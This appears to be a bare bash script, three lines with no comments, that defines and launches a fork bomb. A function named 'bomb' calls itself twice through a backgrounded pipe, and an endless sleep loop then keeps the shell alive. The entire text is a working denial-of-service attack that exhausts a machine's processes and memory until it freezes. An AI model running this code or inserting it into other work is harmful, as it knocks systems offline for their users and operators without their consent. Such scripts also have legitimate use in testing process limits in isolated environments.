bomb() { bomb | bomb & }
bomb
while :; do sleep 60; done
